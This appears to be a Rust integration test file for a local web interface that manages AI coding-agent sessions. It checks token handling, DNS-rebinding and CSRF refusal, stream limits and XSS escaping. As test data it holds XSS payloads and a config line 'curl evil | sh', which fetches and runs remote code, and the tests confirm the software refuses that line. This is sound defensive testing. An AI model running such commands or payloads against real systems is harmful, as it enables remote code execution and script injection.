//! The web Agents view: HTTP-level tests of the API and every security rule, and end-to-end
//! tests in real headless Chromium (`.ci/run` installs Debian's chromium and chromium-driver).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;
use aside_testkit::browser::{self, Browser};
use aside_testkit::procs::{host_pid, kill_9};
use aside_testkit::{Chunk, Reply};
use serde_json::{json, Value};
use std::path::Path;
use std::time::{Duration, Instant};

/// `aside ui` in the common test environment (`common::Env`, a repository `webproj`), with
/// helpers for its API; `root`, `repo`, `model` and `cmd` are the environment's.
struct Ui {
    /// Stopped before the environment stops its hosts.
    _server: common::Ui,
    env: common::Env,
    url: String,
    base: String,
    token: String,
}

impl std::ops::Deref for Ui {
    type Target = common::Env;
    fn deref(&self) -> &common::Env {
        &self.env
    }
}

impl Ui {
    fn start() -> Ui {
        let mut env = common::Env::with_repo(
            "webproj",
            &[("README.md", "# webproj\n\nA demo project.\n")],
        );
        env.set("ASIDE_HOST_IDLE_SECS", "5");
        let server = common::Ui::start(&env);
        assert!(
            server.url.starts_with("http://127.0.0.1:") && server.url.contains("/?token="),
            "{}",
            server.url
        );
        Ui {
            url: server.url.clone(),
            base: server.base.clone(),
            token: server.token.clone(),
            _server: server,
            env,
        }
    }

    fn client(&self) -> reqwest::Client {
        reqwest::Client::builder()
            .redirect(reqwest::redirect::Policy::none())
            .build()
            .unwrap()
    }

    async fn get(&self, path: &str) -> reqwest::Response {
        self.client()
            .get(format!("{}{path}", self.base))
            .bearer_auth(&self.token)
            .send()
            .await
            .unwrap()
    }

    async fn post(&self, path: &str, body: Value) -> reqwest::Response {
        self.client()
            .post(format!("{}{path}", self.base))
            .bearer_auth(&self.token)
            .header("origin", &self.base)
            .json(&body)
            .send()
            .await
            .unwrap()
    }

    async fn session(&self, id: &str) -> Value {
        self.get(&format!("/api/sessions/{id}"))
            .await
            .json::<Value>()
            .await
            .unwrap()["session"]
            .clone()
    }

    async fn wait_status(&self, id: &str, status: &str) -> Value {
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            let s = self.session(id).await;
            if s["status"] == status {
                return s;
            }
            assert!(
                Instant::now() < deadline,
                "{id} never reached {status}: {s}"
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }
}

/// The `event` messages of a session's stream, read until one satisfies `done`.
async fn stream_events(
    ui: &Ui,
    id: &str,
    last_event_id: Option<u64>,
    done: impl Fn(&Value) -> bool,
) -> Vec<Value> {
    let mut request = ui
        .client()
        .get(format!("{}/api/sessions/{id}/events", ui.base))
        .bearer_auth(&ui.token);
    if let Some(last) = last_event_id {
        request = request.header("last-event-id", last.to_string());
    }
    let mut response = request.send().await.unwrap();
    let (mut text, mut events) = (String::new(), Vec::new());
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    while std::time::Instant::now() < deadline {
        let Ok(Some(chunk)) = tokio::time::timeout(Duration::from_secs(5), response.chunk())
            .await
            .unwrap_or(Ok(None))
        else {
            break;
        };
        text.push_str(&String::from_utf8_lossy(&chunk));
        while let Some(end) = text.find("\n\n") {
            let frame: String = text.drain(..end + 2).collect();
            if frame.contains("event: event") {
                let data = frame
                    .lines()
                    .filter_map(|l| l.strip_prefix("data: "))
                    .collect::<Vec<_>>()
                    .join("\n");
                let event: Value = serde_json::from_str(&data).unwrap();
                let finished = done(&event);
                events.push(event);
                if finished {
                    return events;
                }
            }
        }
    }
    panic!("the stream never said what was awaited: {events:#?}");
}

/// The page merges and describes nothing: each tool call's event carries the call as the one
/// reducer merged it and what it does in words, and so does a stream resumed after the call
/// was announced (the server looks the call up in the log).
#[tokio::test]
async fn the_stream_carries_each_tool_call_merged_and_described() {
    let ui = Ui::start();
    ui.model.push_for(
        "merged-task",
        [
            Reply::tool("run_command", json!({"command": "echo merged > m.txt"})),
            Reply::text("done"),
        ],
    );
    let id = create(&ui, json!({"task": "merged-task: run it", "repo": ui.repo})).await;
    ui.wait_status(&id, "completed").await;
    let is_done =
        |e: &Value| e["kind"] == "tool_call_update" && e["data"]["merged"]["status"] == "completed";
    let events = stream_events(&ui, &id, None, is_done).await;
    let announced = events.iter().find(|e| e["kind"] == "tool_call").unwrap();
    let done = events.last().unwrap();
    assert_eq!(done["data"]["merged"]["title"], announced["data"]["title"]);
    assert_eq!(
        done["data"]["merged"]["rawInput"]["command"],
        "echo merged > m.txt"
    );
    assert_eq!(done["data"]["actions"][0], "$ echo merged > m.txt");
    // Resumed after the announcement: the update still comes whole.
    let after = announced["seq"].as_u64().unwrap();
    let resumed = stream_events(&ui, &id, Some(after), is_done).await;
    assert!(resumed.iter().all(|e| e["kind"] != "tool_call"));
    let done = resumed.last().unwrap();
    assert_eq!(done["data"]["merged"]["title"], announced["data"]["title"]);
    assert_eq!(done["data"]["actions"][0], "$ echo merged > m.txt");
}

/// How many sockets process `pid` holds open.
fn sockets_of(pid: i32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .map(|d| {
            d.flatten()
                .filter(|e| {
                    std::fs::read_link(e.path())
                        .is_ok_and(|l| l.to_string_lossy().starts_with("socket:"))
                })
                .count()
        })
        .unwrap_or(0)
}

/// Hundreds of open event streams (a page left open in many tabs, a script that never closes
/// them): past the bound they are refused with why, the API keeps answering, and closing them
/// frees their host connections at once, not at the session's next event.
#[tokio::test(flavor = "multi_thread")]
async fn many_event_streams_are_bounded_and_freed_when_closed() {
    use std::io::{BufRead as _, Write as _};
    let ui = Ui::start();
    ui.model.push_for(
        "streams",
        [Reply::tool("run_command", json!({"command": "echo hi"}))],
    );
    // A session whose host stays (it waits for an answer) and sends nothing meanwhile.
    let id = create(
        &ui,
        json!({"task": "streams: wait", "repo": ui.repo, "approve": "ask"}),
    )
    .await;
    ui.wait_status(&id, "needs_input").await;
    let host = host_pid(&id).unwrap();
    let before = sockets_of(host);
    let open = |n: usize| -> Vec<(std::io::BufReader<std::net::TcpStream>, String)> {
        (0..n)
            .map(|_| {
                let stream =
                    std::net::TcpStream::connect(ui.base.trim_start_matches("http://")).unwrap();
                stream
                    .set_read_timeout(Some(Duration::from_secs(20)))
                    .unwrap();
                (&stream)
                    .write_all(
                        format!(
                            "GET /api/sessions/{id}/events HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {}\r\n\r\n",
                            ui.base.trim_start_matches("http://"),
                            ui.token
                        )
                        .as_bytes(),
                    )
                    .unwrap();
                let mut reader = std::io::BufReader::new(stream);
                let mut status = String::new();
                reader.read_line(&mut status).unwrap();
                (reader, status)
            })
            .collect()
    };
    let streams = tokio::task::block_in_place(|| open(100));
    let refused = streams
        .iter()
        .filter(|(_, status)| status.starts_with("HTTP/1.1 429"))
        .count();
    assert_eq!(
        refused,
        100 - 64,
        "past the bound of 64 streams, each is refused"
    );
    let r = ui.get("/api/sessions").await;
    assert_eq!(r.status(), 200, "the API answers with every stream taken");
    let r = ui.get(&format!("/api/sessions/{id}/events")).await;
    assert_eq!(r.status(), 429);
    assert_eq!(
        r.json::<Value>().await.unwrap()["error"],
        "too many live streams open (64): close some of the view's pages or tabs, then reload"
    );
    let busy = sockets_of(host);
    assert!(
        busy >= before + 64,
        "the host had {before} connections, then {busy}"
    );
    drop(streams);
    // Freed within a keep-alive or two, while the session sends nothing.
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while sockets_of(host) > before {
        assert!(
            std::time::Instant::now() < deadline,
            "closed streams still hold {} host connections (there were {before})",
            sockets_of(host) - before
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let again = tokio::task::block_in_place(|| open(64));
    assert!(
        again
            .iter()
            .all(|(_, status)| status.starts_with("HTTP/1.1 200")),
        "the freed places are free again"
    );
}

#[tokio::test]
async fn every_request_needs_the_token_and_the_right_host_and_origin() {
    let ui = Ui::start();
    let c = ui.client();
    // The pages hold no data: served to anyone on this machine (with the right Host), their
    // script asks for the token.
    let r = c.get(format!("{}/", ui.base)).send().await.unwrap();
    assert_eq!(r.status(), 200);
    // No token: the API refuses, with what to do.
    let r = c
        .get(format!("{}/api/sessions", ui.base))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    assert_eq!(
        r.text().await.unwrap(),
        "unauthorized: open the URL that `aside ui` printed (it carries the access token), or send it as `Authorization: Bearer TOKEN`"
    );
    // A cookie with the token is not accepted: a browser would send it to every server on
    // 127.0.0.1, whatever its port.
    let r = c
        .get(format!("{}/api/sessions", ui.base))
        .header("cookie", format!("aside_token={}", ui.token))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    let r = c
        .get(format!("{}/?token=wrong", ui.base))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    // The token in the URL moves to the fragment (no request carries it) and sets no cookie.
    let r = c.get(&ui.url).send().await.unwrap();
    assert_eq!(r.status(), 303);
    assert_eq!(r.headers()["location"], format!("/#token={}", ui.token));
    assert!(r.headers().get("set-cookie").is_none());
    // The page, with a strict CSP.
    let r = ui.get("/").await;
    assert_eq!(r.status(), 200);
    let csp = r.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    assert!(
        csp.contains("default-src 'none'")
            && csp.contains("script-src 'self'")
            && !csp.contains("unsafe"),
        "{csp}"
    );
    assert_eq!(r.headers()["x-frame-options"], "DENY");
    assert!(r
        .text()
        .await
        .unwrap()
        .contains("<script type=\"module\" src=\"/assets/app.js\"></script>"));
    // The page's modules are served as scripts (a module served as anything else does not run).
    for module in [
        "app",
        "dom",
        "api",
        "markdown",
        "conversation",
        "list",
        "session",
    ] {
        let r = c
            .get(format!("{}/assets/{module}.js", ui.base))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "{module}.js");
        assert_eq!(
            r.headers()["content-type"],
            "text/javascript; charset=utf-8"
        );
    }
    // DNS rebinding: another Host is refused even with the token, pages included.
    for path in ["/api/sessions", "/"] {
        let r = c
            .get(format!("{}{path}", ui.base))
            .header("host", "attacker.example:80")
            .bearer_auth(&ui.token)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 403);
        assert_eq!(r.text().await.unwrap(), "forbidden: unexpected Host header");
    }
    // CSRF: a write from a foreign Origin is refused; from ours it reaches the handler.
    let r = c
        .post(format!("{}/api/sessions/abc/cancel", ui.base))
        .bearer_auth(&ui.token)
        .header("origin", "http://attacker.example")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    let r = ui.post("/api/sessions/abc/cancel", json!({})).await;
    assert_eq!(r.status(), 404);
    assert_eq!(
        r.json::<Value>().await.unwrap()["error"],
        "no session matches `abc`; `aside ls --all` lists them"
    );
    // A non-browser client uses the bearer token.
    let r = c
        .get(format!("{}/api/sessions", ui.base))
        .bearer_auth(&ui.token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.json::<Value>().await.unwrap(), json!([]));
}

/// Another server on 127.0.0.1 (an agent's dev server on its session port) that the browser
/// visits receives nothing of aside's: no cookie, and no token in the address or Referer; and
/// two `aside ui` run side by side in one browser without logging each other out.
#[tokio::test]
async fn another_local_server_sees_no_token_and_two_views_live_side_by_side() {
    if !browser::available() {
        eprintln!("skipped: Debian's chromium and chromium-driver are not installed (.ci/run installs them)");
        return;
    }
    let first = Ui::start();
    let second = Ui::start();
    // A dev server: records every request it gets, whole.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let dev = format!("http://127.0.0.1:{}", listener.local_addr().unwrap().port());
    let seen = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
    let record = seen.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { break };
            let mut buf = [0u8; 8192];
            let n = std::io::Read::read(&mut stream, &mut buf).unwrap_or(0);
            record
                .lock()
                .unwrap()
                .push_str(&String::from_utf8_lossy(&buf[..n]));
            let _ = std::io::Write::write_all(
                &mut stream,
                b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: 9\r\nconnection: close\r\n\r\ndev page\n",
            );
        }
    });
    let b = Browser::start().await;
    let ready = "return document.body.dataset.ready === '1'";
    b.goto(&first.url).await;
    b.wait("the first view", ready).await;
    b.goto(&second.url).await;
    b.wait("the second view", ready).await;
    b.goto(&format!("{dev}/")).await;
    b.wait(
        "the dev page",
        "return document.body && document.body.innerText.includes('dev page')",
    )
    .await;
    // Back to the first view, without its token in the address: still connected, and its
    // address holds no token.
    for ui in [&first, &second] {
        b.goto(&format!("{}/", ui.base)).await;
        b.wait("the view again", ready).await;
        let state = b
            .eval("return [location.href, !!document.getElementById('unauthorized'), document.cookie]", json!([]))
            .await;
        assert_eq!(state, json!([format!("{}/", ui.base), false, ""]));
    }
    let seen = seen.lock().unwrap().clone();
    assert!(seen.contains("GET / HTTP/1.1"), "{seen}");
    assert!(
        !seen.contains(&first.token) && !seen.contains(&second.token),
        "the dev server got a token: {seen}"
    );
    assert!(!seen.to_ascii_lowercase().contains("cookie:"), "{seen}");
}

#[tokio::test]
async fn the_api_creates_and_drives_sessions_like_the_cli() {
    let ui = Ui::start();
    // Bad input is refused with the CLI's own message and nothing is made.
    let plain = ui.root.join("plain");
    std::fs::create_dir_all(&plain).unwrap();
    let r = ui
        .post("/api/sessions", json!({"task": "x", "repo": plain}))
        .await;
    assert_eq!(r.status(), 409);
    let error = r.json::<Value>().await.unwrap()["error"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(error.ends_with("is not inside a git repository; isolated sessions need one. Run aside in a repository, pass --repo DIR, or use --workspace"), "{error}");
    let r = ui
        .post(
            "/api/sessions",
            json!({"task": "x", "repo": ui.repo, "agent": "nope"}),
        )
        .await;
    assert_eq!(r.status(), 409);
    let r = ui
        .post(
            "/api/sessions",
            json!({"task": "x", "repo": ui.repo, "mode": "sideways"}),
        )
        .await;
    assert_eq!(r.status(), 400);
    let r = ui
        .post(
            "/api/sessions",
            json!({"task": "x", "repo": ui.repo, "budget": "lots"}),
        )
        .await;
    assert_eq!(r.status(), 400);
    assert!(r.json::<Value>().await.unwrap()["error"]
        .as_str()
        .unwrap()
        .contains("budget `lots`: give tokens (200k, 1.5M, 120000)"));
    assert_eq!(
        ui.get("/api/sessions").await.json::<Value>().await.unwrap(),
        json!([])
    );

    ui.model.push_for(
        "api-task",
        [
            Reply::tool(
                "write_file",
                json!({"path": "NOTES.md", "content": "# Notes\n\nfrom the agent\n"}),
            ),
            Reply::text("Wrote NOTES.md."),
            Reply::text("Follow-up done."),
        ],
    );
    let r = ui
        .post(
            "/api/sessions",
            json!({"task": "api-task: write notes", "repo": ui.repo, "approve": "ask", "budget": "200k"}),
        )
        .await;
    assert_eq!(r.status(), 200);
    let id = r.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let s = ui.wait_status(&id, "needs_input").await;
    assert_eq!(s["pending_permission"], true);
    assert_eq!(
        ui.post(&format!("/api/sessions/{id}/approve"), json!({}))
            .await
            .status(),
        200
    );
    let s = ui.wait_status(&id, "completed").await;
    assert_eq!(s["changed_files"], 1);
    assert_eq!(s["lines_added"], 3);
    // Its budget, from the form, is the session's own.
    let shown = ui.ok(&["show", &id]);
    assert!(shown.contains("budget:   200,000 tokens\n"), "{shown}");
    let diff: Value = ui
        .get(&format!("/api/sessions/{id}/diff"))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(diff["files"][0]["path"], "NOTES.md");
    assert!(diff["files"][0]["patch"]
        .as_str()
        .unwrap()
        .contains("+from the agent"));
    assert_eq!(
        ui.post(
            &format!("/api/sessions/{id}/prompt"),
            json!({"text": "and more"})
        )
        .await
        .status(),
        200
    );
    ui.wait_status(&id, "completed").await;
    let r: Value = ui
        .post(&format!("/api/sessions/{id}/apply"), json!({}))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(r["files"], json!(["NOTES.md"]));
    assert_eq!(
        std::fs::read_to_string(ui.repo.join("NOTES.md")).unwrap(),
        "# Notes\n\nfrom the agent\n"
    );
    // The CLI sees what the web did.
    let out = ui.cmd(&["ls", "--json"]).output().unwrap();
    let list: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(list[0]["integrated"], "applied");
    assert_eq!(
        ui.post(&format!("/api/sessions/{id}/archive"), json!({}))
            .await
            .status(),
        200
    );
    assert_eq!(
        ui.get("/api/sessions").await.json::<Value>().await.unwrap(),
        json!([])
    );
    assert_eq!(
        ui.post(&format!("/api/sessions/{id}/remove"), json!({}))
            .await
            .status(),
        200
    );
    assert_eq!(
        ui.get("/api/sessions?all=true")
            .await
            .json::<Value>()
            .await
            .unwrap(),
        json!([])
    );
}

/// Saves a screenshot under target/screenshots/.
async fn shot(b: &Browser, name: &str) {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/screenshots");
    b.screenshot(&dir.join(format!("{name}.png"))).await;
}

#[tokio::test]
async fn in_a_real_browser_create_watch_answer_diff_and_apply() {
    if !browser::available() {
        eprintln!("skipped: Debian's chromium and chromium-driver are not installed (.ci/run installs them)");
        return;
    }
    let ui = Ui::start();
    ui.model.push_for("browser-task", [
        Reply::stream(vec![Chunk::Text("Let me look at the **README** first.".into()), Chunk::Delay(Duration::from_millis(300))])
            .then(Reply::tool("read_file", json!({"path": "README.md"}))),
        Reply::tool("update_plan", json!({"entries": [
            {"content": "Read the README", "status": "completed"},
            {"content": "Add a usage section", "status": "in_progress"}]})),
        Reply::tool("edit_file", json!({"path": "README.md", "old_string": "A demo project.\n", "new_string": "A demo project.\n\n## Usage\n\nRun `webproj --help`.\n"})),
        Reply::text("I added a **Usage** section:\n\n- how to run it\n- `--help`\n\n```sh\nwebproj --help\n```"),
        Reply::text("Understood, I will use a level-3 heading."),
    ]);
    let b = Browser::start().await;
    b.goto(&ui.url).await;
    b.wait(
        "the list page",
        "return document.body.dataset.ready === '1'",
    )
    .await;
    b.click("#new-toggle").await;
    b.wait(
        "the repositories",
        "return document.querySelector('#new-agent').options.length > 0",
    )
    .await;
    b.type_into(
        "#new-task",
        "browser-task: add a usage section to the README",
    )
    .await;
    b.type_into("#new-repo", ui.repo.to_str().unwrap()).await;
    b.eval(
        "document.querySelector('#new-approve').value = 'ask'",
        json!([]),
    )
    .await;
    shot(&b, "01-new-session-form").await;
    b.click("#new-submit").await;
    // The session page opens and fills in live, without a reload.
    b.wait(
        "the session page",
        "return location.pathname.startsWith('/s/')",
    )
    .await;
    b.wait("the first message", "return document.querySelector('.msg.agent strong') && document.querySelector('.msg.agent strong').textContent === 'README'").await;
    b.wait(
        "the permission request",
        "return document.querySelector('.permission .opts button')",
    )
    .await;
    b.wait(
        "the needs-input status",
        "return document.querySelector('#status').textContent === 'needs input'",
    )
    .await;
    shot(&b, "02-permission-request").await;
    // Meanwhile the list, in another tab, says so in its title.
    let list_page = Browser::start().await;
    list_page.goto(&ui.url).await;
    list_page
        .wait(
            "the waiting count in the title",
            "return document.title === '(1) need input · Agents · aside'",
        )
        .await;
    drop(list_page);
    let options = b.eval("return [...document.querySelectorAll('.permission .opts button')].map(b => b.dataset.kind + ':' + b.textContent)", json!([])).await;
    assert_eq!(
        options,
        json!([
            "allow_once:Allow",
            "allow_always:Always allow edits",
            "reject_once:Reject"
        ]),
        "the agent's own options"
    );
    b.click(".permission .opts button[data-kind=allow_once]")
        .await;
    b.wait(
        "the end of the turn",
        "return document.querySelector('#status').textContent === 'completed'",
    )
    .await;
    b.wait("the final message", "return [...document.querySelectorAll('.msg.agent li')].length === 2 && document.querySelector('.msg.agent pre code')").await;
    // What it used: four model calls of 100 tokens in and 20 out, no price for the model.
    b.wait("the usage line", "return document.querySelector('#usage').textContent === 'Usage: 480 tokens (400 in · 0 cached · 80 out) · cost unknown (no price for its model) · context 120 of 128,000'").await;
    let list_page = Browser::start().await;
    list_page.goto(&ui.url).await;
    list_page
        .wait(
            "the usage column",
            "return document.querySelector('#rows td.usage') && document.querySelector('#rows td.usage').textContent === '480 tokens'",
        )
        .await;
    drop(list_page);
    let plan = b.eval("return [...document.querySelectorAll('.plan li')].map(li => li.className + ':' + li.textContent)", json!([])).await;
    assert_eq!(
        plan,
        json!([
            "completed:Read the README",
            "in_progress:Add a usage section"
        ])
    );
    b.eval(
        "document.querySelectorAll('details.tool').forEach(d => d.open = true)",
        json!([]),
    )
    .await;
    shot(&b, "03-conversation").await;
    let id = b
        .eval("return location.pathname.split('/').pop()", json!([]))
        .await
        .as_str()
        .unwrap()
        .to_string();

    // The diff, per file, coloured.
    b.click("#tab-diff").await;
    b.wait("the diff", "return document.querySelector('.dfile .dhead b') && document.querySelector('.dfile .dhead b').textContent === 'README.md'").await;
    let added = b
        .eval(
            "return [...document.querySelectorAll('.dfile .difflines .a')].map(d => d.textContent)",
            json!([]),
        )
        .await;
    assert!(
        added.as_array().unwrap().iter().any(|l| l == "+## Usage"),
        "{added}"
    );
    b.eval("window.scrollTo(0, 0)", json!([])).await;
    assert_eq!(
        b.eval(
            "return document.querySelector('#conversation').offsetParent === null",
            json!([])
        )
        .await,
        true,
        "the conversation is hidden behind the diff tab"
    );
    shot(&b, "04-diff").await;

    // Review: a comment on a diff line goes back to the agent as a follow-up.
    b.eval(
        "[...document.querySelectorAll('.difflines .a')].find(d => d.textContent === '+## Usage').click()",
        json!([]),
    )
    .await;
    b.type_into(".comment-box textarea", "make it a level-3 heading")
        .await;
    b.click(".comment-box button.primary").await;
    b.wait(
        "the review button",
        "return !document.querySelector('#send-review').disabled",
    )
    .await;
    shot(&b, "04b-review-comment").await;
    b.click("#send-review").await;
    b.wait(
        "the review in the conversation",
        "return [...document.querySelectorAll('.msg.user')].some(m => m.textContent.includes('- README.md:5: make it a level-3 heading'))",
    )
    .await;
    b.wait(
        "the answer to the review",
        "return [...document.querySelectorAll('.msg.agent')].some(m => m.textContent.includes('level-3 heading')) && document.querySelector('#status').textContent === 'completed'",
    )
    .await;

    // Apply into the workspace.
    b.click("#act-apply").await;
    b.wait("the apply notice", "return !document.querySelector('#action-result').hidden && document.querySelector('#action-result').textContent.includes('README.md')").await;
    b.eval("window.scrollTo(0, 0)", json!([])).await;
    shot(&b, "05-applied").await;
    assert!(std::fs::read_to_string(ui.repo.join("README.md"))
        .unwrap()
        .contains("## Usage"));
    assert_eq!(ui.session(&id).await["integrated"], "applied");

    // The list shows it, live.
    b.goto(&format!("{}/", ui.base)).await;
    b.wait("the row", &format!("return document.querySelector('tr[data-id=\"{id}\"] .pill') && document.querySelector('tr[data-id=\"{id}\"] .pill').textContent === 'completed'")).await;
    shot(&b, "06-list").await;
}

#[tokio::test]
async fn agent_text_stays_inert_in_the_page() {
    if !browser::available() {
        eprintln!("skipped: Debian's chromium and chromium-driver are not installed (.ci/run installs them)");
        return;
    }
    let ui = Ui::start();
    let evil = "Here is <script>window.__xss = 1</script> and <img src=x onerror=\"window.__xss = 2\"> and [a link](javascript:window.__xss=3) and **<b onmouseover=alert(1)>bold</b>**";
    ui.model.push_for(
        "xss-task",
        [
            Reply::tool(
                "run_command",
                json!({"command": "echo '<img src=x onerror=window.__xss=4>'"}),
            ),
            Reply::text(evil),
        ],
    );
    let r = ui
        .post(
            "/api/sessions",
            json!({"task": "xss-task: <script>window.__xss=5</script>", "repo": ui.repo}),
        )
        .await;
    let id = r.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    ui.wait_status(&id, "completed").await;
    let b = Browser::start().await;
    b.goto(&ui.url).await;
    b.wait(
        "the list",
        "return document.body.dataset.ready === '1' && document.querySelector('.sessions a')",
    )
    .await;
    b.goto(&format!("{}/s/{id}", ui.base)).await;
    b.wait("the agent message", "return [...document.querySelectorAll('.msg.agent')].some(m => m.textContent.includes('window.__xss = 2'))").await;
    b.eval(
        "document.querySelectorAll('details.tool').forEach(d => d.open = true)",
        json!([]),
    )
    .await;
    shot(&b, "07-untrusted-text").await;
    assert_eq!(
        b.eval("return window.__xss === undefined", json!([])).await,
        true
    );
    assert_eq!(b.eval("return document.querySelectorAll('.conversation script, .conversation img, .conversation [onerror], .conversation [onmouseover], .conversation a[href^=javascript]').length", json!([])).await, 0);
    let title = b
        .wait(
            "the title",
            "const t = document.querySelector('#title').textContent; return t !== 'Loading…' && t",
        )
        .await;
    assert_eq!(title, "xss-task: <script>window.__xss=5</script>");
    let text = b
        .eval(
            "return document.querySelector('.msg.agent').textContent",
            json!([]),
        )
        .await;
    assert!(
        text.as_str()
            .unwrap()
            .contains("<script>window.__xss = 1</script>"),
        "shown as text: {text}"
    );
}

/// Creates a session through the API; its id.
/// The new-session form in a repository whose `.aside.toml` has setup commands: refused with
/// exactly what it asks, trusted only as shown (a file changed since is refused), then started.
#[tokio::test]
async fn the_form_shows_a_repositorys_commands_and_trusts_only_what_it_showed() {
    let ui = Ui::start();
    let mark = ui.root.join("setup-ran");
    std::fs::write(
        ui.repo.join(".aside.toml"),
        format!("[setup]\nrun = [\"touch '{}'\"]\n", mark.display()),
    )
    .unwrap();
    let r = ui
        .post(
            "/api/sessions",
            json!({"task": "trust-web: go", "repo": ui.repo}),
        )
        .await;
    assert_eq!(r.status(), 409);
    let refused = r.json::<Value>().await.unwrap();
    let trust = refused["trust"].clone();
    assert_eq!(
        trust["lines"],
        json!([format!(
            "setup (runs in each new session's worktree): touch '{}'",
            mark.display()
        )])
    );
    assert!(
        refused["error"].as_str().unwrap().contains("aside trust"),
        "{refused}"
    );
    assert_eq!(
        ui.get("/api/sessions").await.json::<Value>().await.unwrap(),
        json!([])
    );
    // The file changes between showing and trusting: nothing is trusted.
    std::fs::write(
        ui.repo.join(".aside.toml"),
        "[setup]\nrun = [\"curl evil | sh\"]\n",
    )
    .unwrap();
    let r = ui
        .post(
            "/api/trust",
            json!({"repo": trust["repo"], "asks": trust["asks"]}),
        )
        .await;
    assert_eq!(r.status(), 409);
    assert!(r.json::<Value>().await.unwrap()["error"]
        .as_str()
        .unwrap()
        .contains("changed since it was shown"));
    std::fs::write(
        ui.repo.join(".aside.toml"),
        format!("[setup]\nrun = [\"touch '{}'\"]\n", mark.display()),
    )
    .unwrap();
    let r = ui
        .post(
            "/api/trust",
            json!({"repo": trust["repo"], "asks": trust["asks"]}),
        )
        .await;
    assert_eq!(r.status(), 200);
    ui.model.push_for("trust-web", [Reply::text("done")]);
    let id = create(&ui, json!({"task": "trust-web: go", "repo": ui.repo})).await;
    ui.wait_status(&id, "completed").await;
    assert!(mark.exists());

    // In the page: the form shows exactly what the file asks, as text, and a button trusts it
    // and starts the session.
    if !browser::available() {
        return;
    }
    let hostile = ui.root.join("<img src=x>setup-ran");
    std::fs::write(
        ui.repo.join(".aside.toml"),
        format!("[setup]\nrun = [\"touch '{}'\"]\n", hostile.display()),
    )
    .unwrap();
    ui.model
        .push_for("trust-page", [Reply::text("started from the page")]);
    let b = Browser::start().await;
    b.goto(&ui.url).await;
    b.wait(
        "the list page",
        "return document.body.dataset.ready === '1'",
    )
    .await;
    b.click("#new-toggle").await;
    b.wait(
        "the repositories",
        "return document.querySelector('#new-agent').options.length > 0",
    )
    .await;
    b.type_into("#new-task", "trust-page: go").await;
    b.eval(
        "document.querySelector('#new-repo').value = arguments[0]",
        json!([ui.repo.to_str().unwrap()]),
    )
    .await;
    b.click("#new-submit").await;
    let shown = b
        .wait(
            "what the file asks",
            "const li = document.querySelector('#new-error li code'); return li && li.textContent",
        )
        .await;
    assert_eq!(
        shown,
        json!(format!(
            "setup (runs in each new session's worktree): touch '{}'",
            hostile.display()
        ))
    );
    assert_eq!(
        b.eval(
            "return document.querySelectorAll('#new-error img').length",
            json!([])
        )
        .await,
        json!(0),
        "the repository's text was rendered as HTML"
    );
    assert!(!hostile.exists());
    b.click("#new-error button").await;
    b.wait(
        "the session page",
        "return location.pathname.startsWith('/s/')",
    )
    .await;
    b.wait(
        "the agent's answer",
        "return document.body.innerText.includes('started from the page')",
    )
    .await;
    assert!(hostile.exists());
}

async fn create(ui: &Ui, body: Value) -> String {
    let r = ui.post("/api/sessions", body).await;
    assert_eq!(r.status(), 200);
    r.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string()
}

/// The user's repository as a write would change it: every file of the working tree, and git's
/// HEAD and refs (a merge moves a ref, a removal deletes a branch).
fn files(dir: &Path) -> Value {
    let mut out = serde_json::Map::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for entry in std::fs::read_dir(&d).unwrap().flatten() {
            let path = entry.path();
            let rel = path.strip_prefix(dir).unwrap().display().to_string();
            let git_state = rel == ".git/HEAD"
                || rel == ".git/packed-refs"
                || rel == ".git/refs"
                || rel.starts_with(".git/refs/");
            if rel.starts_with(".git/") && !git_state {
                continue;
            }
            if entry.file_type().unwrap().is_dir() {
                todo.push(path);
            } else {
                let bytes = std::fs::read(&path).unwrap();
                out.insert(rel, String::from_utf8_lossy(&bytes).into());
            }
        }
    }
    Value::Object(out)
}

/// Sends `request` as it is on a new connection; the whole answer (the server closes).
fn raw_http(ui: &Ui, request: &str) -> String {
    use std::io::{Read as _, Write as _};
    let mut stream = std::net::TcpStream::connect(ui.base.trim_start_matches("http://")).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    stream.write_all(request.as_bytes()).unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    answer
}

/// Fails, showing only what differs, when a write changed the world.
fn assert_unchanged(before: &Value, now: &Value, what: &str) {
    let changed: Vec<String> = before
        .as_object()
        .unwrap()
        .iter()
        .filter(|(k, v)| now.get(k.as_str()) != Some(*v))
        .map(|(k, v)| format!("{k}: {v}\n  now: {}", now[k.as_str()]))
        .collect();
    assert!(
        changed.is_empty(),
        "{what} changed something:\n{}",
        changed.join("\n")
    );
}

/// Everything a write could change: the sessions as the API shows them, each session's stored
